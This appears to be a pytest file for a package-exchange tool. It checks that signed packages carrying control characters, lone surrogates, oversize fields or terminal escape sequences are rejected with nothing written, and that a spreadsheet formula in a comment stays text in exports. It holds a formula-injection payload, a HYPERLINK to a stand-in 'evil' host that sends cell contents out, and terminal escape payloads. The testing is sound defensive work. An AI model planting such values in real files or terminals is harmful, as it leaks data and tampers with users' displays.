"""Hostile text in packages and key lists (issue 12, items 7, 10, 11 and 15): validly signed packages whose texts
carry control characters, lone surrogates or more than the limits are rejected with a message naming the
indicator and the field, and nothing is written; a formula in a comment is accepted as text and stays text in
the inspector's exports; escape sequences never reach the terminal. On SQLite and PostgreSQL (`inspector`)."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from packs import UNIT, counts, entries, repack

from assessment.exchange.package_diff import Outcome
from tests.cli_language import english

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil/?x="&A2,"x")'


def content_hash(service) -> str:  # type: ignore[no-untyped-def]
    with service.store.engine.connect() as c:
        rows = [repr(tuple(r)) for table in ("answers", "evidence", "review_notes", "units", "trusted_keys")
                for r in c.exec_driver_sql(f"SELECT * FROM {table}")]
    return hashlib.sha256("\n".join(sorted(rows)).encode("utf-8", "surrogatepass")).hexdigest()


def forged(commune, package: Path, target: Path, *, answers=None, manifest=None) -> Path:  # type: ignore[no-untyped-def]
    """The commune's package with its answers (a function of the list) or manifest changed, signed again with the
    commune's own key: only the text is hostile."""
    parts = {}
    if answers is not None:
        data = json.loads(entries(package)["answers.json"])
        answers(data)
        parts["answers.json"] = json.dumps(data).encode()  # ASCII JSON: "\ud800" stays a (lone) escape
    return repack(package, target, parts=parts, manifest=manifest, sign_with=commune.store.exchange.keys,
                  identity=UNIT)


def _first(field: str, value: object):  # type: ignore[no-untyped-def]
    def edit(data: list[dict]) -> None:
        data[0][field] = value
    return edit


def _summary(value: str):  # type: ignore[no-untyped-def]
    def edit(data: list[dict]) -> None:
        next(a for a in data if a["evidence"])["evidence"][0]["summary"] = value
    return edit


def _unit_name(name: str):  # type: ignore[no-untyped-def]
    def edit(manifest: dict) -> None:
        manifest["unit"]["name"] = name
    return edit


CASES = {
    "lone surrogate in a comment": ({"answers": _first("comment", "ghi chú \ud800")},
                                    "comment contains an invalid character (a lone surrogate U+D800) at character 9"),
    "BEL in a comment": ({"answers": _first("comment", "chuông\x07")},
                         "comment contains a control character (U+0007) at character 7"),
    "ESC in a comment": ({"answers": _first("comment", "\x1b]0;pwned\x07")},
                         "comment contains a control character (U+001B) at character 1"),
    "8,000-character comment": ({"answers": _first("comment", "dài " * 2000)},
                                "comment longer than 2000 characters (it has 8,000)"),
    "8,000-character evidence summary": ({"answers": _summary("Trích yếu " * 800)},
                                         "summary longer than 2000 characters (it has 8,000)"),
    "surrogate in an evidence summary": ({"answers": _summary("\udfff")}, "summary contains an invalid character"),
    "escape sequence in the unit name": ({"manifest": _unit_name("Phường\x1b]0;pwned\x07")},
                                         "unit: name contains a control character (U+001B) at character 7"),
    "5,000-character unit name": ({"manifest": _unit_name("Phường " * 715)},
                                  "unit: name longer than 200 characters (it has 5,005)"),
}


@pytest.mark.parametrize("case", list(CASES))
def test_hostile_package_text_is_rejected_and_nothing_written(case, commune, inspector, package, tmp_path):
    change, message = CASES[case]
    bad = forged(commune, package, tmp_path / "bad.dxpkg", **change)
    before, digest = counts(inspector), content_hash(inspector)
    (preview,), (result,) = inspector.packages.import_files([bad], trust=True, accept_changed=True)
    assert (preview.outcome, preview.rejection) == (Outcome.REJECTED, "content"), preview.reason
    assert message in preview.reason
    if "answers" in change:  # the indicator is named, not "answer 1"
        code = json.loads(entries(package)["answers.json"])[0]["code"] if "comment" in case else ""
        assert f"{code} (answer " in preview.reason
    assert not result.applied
    assert counts(inspector) == before and content_hash(inspector) == digest


def _cli(db_url: str, *args: str, tmp: Path) -> subprocess.CompletedProcess[str]:
    import os

    env = {**os.environ, "DXSCORE_LOG_DIR": str(tmp / "logs")}
    command = [sys.executable, str(ROOT / "main.py"), "--db", db_url, *english(args), *args]
    return subprocess.run(command, capture_output=True,
                          text=True, env=env, cwd=ROOT, timeout=300)


def test_the_cli_rejects_a_hostile_package_without_echoing_its_escapes(commune, inspector, package, db_url, tmp_path):
    bad = forged(commune, package, tmp_path / "bad.dxpkg", manifest=_unit_name("Xã\x1b]0;pwned\x07\x1b[2J"))
    before = counts(inspector)
    result = _cli(db_url, "packages", "import", str(bad), "--trust", "00070", tmp=tmp_path)
    assert result.returncode == 2, result.stderr
    assert "rejected" in result.stdout and "unit: name contains a control character (U+001B)" in result.stdout
    assert "\x1b" not in result.stdout + result.stderr and "\x07" not in result.stdout + result.stderr
    assert counts(inspector) == before


def test_a_key_list_with_an_escape_in_an_identity_is_refused(commune, inspector, db_url, tmp_path):
    keys = tmp_path / "keys.json"
    commune.packages.export_keys(keys, [UNIT])
    data = json.loads(keys.read_text(encoding="utf-8"))
    data["keys"][0]["identity"] = "00070\x1b]0;pwned\x07"
    keys.write_text(json.dumps(data), encoding="utf-8")
    before = counts(inspector)
    result = _cli(db_url, "keys", "import", str(keys), tmp=tmp_path)
    assert result.returncode == 2
    assert "key 1: the identity contains a control character (U+001B) at character 6" in result.stderr
    assert "\x1b" not in result.stderr
    assert counts(inspector) == before


def test_a_formula_in_a_package_comment_stays_text_in_the_inspectors_exports(commune, inspector, package, db_url,
                                                                              tmp_path):
    good = forged(commune, package, tmp_path / "formula.dxpkg", answers=_first("comment", FORMULA))
    code = json.loads(entries(package)["answers.json"])[0]["code"]
    (preview,), (result,) = inspector.packages.import_files([good], trust=True)
    assert result.applied, preview.reason
    xlsx, csv = tmp_path / "answers.xlsx", tmp_path / "answers.csv"
    for out in (xlsx, csv):
        done = _cli(db_url, "answers", "export", "--cycle", "2025", "--unit", UNIT, "-o", str(out), tmp=tmp_path)
        assert done.returncode == 0, done.stderr
    sheet = openpyxl.load_workbook(xlsx).active
    cell = next(row[8] for row in sheet.iter_rows(min_row=2) if row[2].value == code)
    assert (cell.value, cell.data_type) == (FORMULA, "s")
    assert f"\"'{FORMULA.replace(chr(34), 2 * chr(34))}\"" in csv.read_text(encoding="utf-8")
